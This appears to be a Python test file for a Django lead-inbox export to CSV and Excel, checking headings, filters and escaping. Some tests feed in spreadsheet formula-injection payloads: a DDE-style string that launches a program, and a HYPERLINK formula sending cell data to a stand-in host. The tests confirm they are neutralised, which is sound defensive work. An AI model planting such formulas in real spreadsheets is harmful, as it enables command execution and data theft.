import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from knowledge.domain.sheets.spreadsheet import neutral
from knowledge.models import Draft
from leads.domain.rows import HEADINGS
from tests.leads.staff.pages import INBOX
from tests.leads.staff.samples import CONTACT, a_lead

pytestmark = pytest.mark.django_db


def csv_of(client: Client, **query: str) -> list[dict[str, str]]:
    content = client.get(f"{INBOX}export/csv/", query).content
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_of(client: Client, **query: str) -> list[dict[str, Any]]:
    response = client.get(f"{INBOX}export/xlsx/", query)
    assert ".xlsx" in response.headers["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    headings, *rows = [list(row) for row in sheet.iter_rows()]
    return [dict(zip((h.value for h in headings), row, strict=True)) for row in rows]


def test_excel_has_one_row_a_lead_with_japanese_headings(sales: Client) -> None:
    Draft.objects.create(entry_id="scenario.contractor_leak", data={"title": "委託先からの情報漏えい"})
    lead = a_lead()
    (row,) = xlsx_of(sales)
    assert {heading: cell.value for heading, cell in row.items()} == {
        "受付番号": "H-2611-0001",
        "受付日時": "2026/11/20 10:05",
        "種別": "見積りのご希望",
        "ランク": "A",
        "ランクの理由": "売上高をお答えいただいています\n見積りをご希望です",
        "会社名": "株式会社山田製作所",
        "業種": "製造業",
        "年間売上高(円)": 350_000_000,
        "年間売上高(お客さまの表現)": "3億5千万円くらい",
        "売上高の対象年度": "2026年3月期",
        "過去5年の事故": "あり",
        "事故の内容": "2年前に顧客リストを誤送信",
        "認証": "ISMS(ISO/IEC 27001)",
        "ご担当者": "佐藤 花子",
        "メールアドレス": "sato@example.co.jp",
        "電話番号": "03-0000-1234",
        "ご連絡の希望時間": "平日の午前",
        "同意文の版": "2026-11",
        "同意日時": "2026/11/20 10:05",
        "同意した文": lead.consented_to,
        "ご質問とお答え": "委託先から漏えいした場合は対象ですか → 掲載あり(委託先からの情報漏えい)",
        "お答えできていないご質問": "身代金は対象ですか",
        "会話ID": str(lead.session),
    }


def test_csv_says_the_same(sales: Client) -> None:
    a_lead()
    (from_csv,), (from_excel,) = csv_of(sales), xlsx_of(sales)
    assert from_csv == {heading: str(cell.value or "") for heading, cell in from_excel.items()}
    assert list(from_csv) == list(HEADINGS)


def test_a_phone_number_is_a_text(sales: Client) -> None:
    a_lead(contact={**CONTACT, "phone": "0300001234"})
    (row,) = xlsx_of(sales)
    phone = row["電話番号"]
    assert (phone.value, phone.data_type, phone.number_format) == ("03-0000-1234", "s", "@")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_what_would_be_run_as_a_formula_is_made_harmless(start: str) -> None:
    assert neutral(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["", "山田", "1-2", "株式会社=", "'quoted", "ー"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert neutral(text) == text


def test_no_cell_of_either_file_is_a_formula(sales: Client) -> None:
    evil = '=HYPERLINK("http://example.com/?"&A1)'
    a_lead(
        company=evil,
        industry=evil,
        annual_sales_as_said=evil,
        fiscal_period=evil,
        incident_details=evil,
        certifications=[evil],
        reasons=[evil],
        contact={"name": evil, "email": evil, "phone": evil, "preferred_time": evil},
        questions=[],
        unanswered=[evil],
    )
    (from_csv,), (from_excel,) = csv_of(sales), xlsx_of(sales)
    assert {cell.data_type for cell in from_excel.values()} == {"s", "n"}
    said = [value for value in from_csv.values() if "HYPERLINK" in value]
    assert len(said) == 12
    assert set(said) == {f"'{evil}"}


def test_an_error_code_stays_a_text_and_control_characters_are_dropped(sales: Client) -> None:
    a_lead(company="#N/A", industry="製造\x0b業")
    (row,) = xlsx_of(sales)
    assert (row["会社名"].value, row["会社名"].data_type) == ("#N/A", "s")
    assert row["業種"].value == "製造業"


@pytest.mark.parametrize("rows_of", [csv_of, xlsx_of])
def test_the_file_holds_what_the_list_shows(sales: Client, rows_of: Any) -> None:
    a_lead(reference="H-1", grade="B")
    a_lead(reference="H-2", grade="A")
    a_lead(reference="H-3", grade="A", company="みどり通販")
    rows = rows_of(sales, grade__exact="A", q="山田")
    assert [getattr(row["受付番号"], "value", row["受付番号"]) for row in rows] == ["H-2"]


def test_all_pages_of_the_list_are_exported(sales: Client) -> None:
    for number in range(60):
        a_lead(reference=f"H-{number:02}")
    assert len(csv_of(sales)) == 60


def test_the_export_follows_the_filters_on_the_page(sales: Client) -> None:
    a_lead()
    page = sales.get(INBOX, {"status__exact": "new"}).content.decode()
    assert 'href="/staff/leads/lead/export/xlsx/?status__exact=new"' in page


def test_there_is_no_other_form(sales: Client) -> None:
    assert sales.get(f"{INBOX}export/pdf/").status_code == 404


def test_no_browser_keeps_the_file(sales: Client) -> None:
    assert "no-store" in sales.get(f"{INBOX}export/csv/").headers["Cache-Control"]
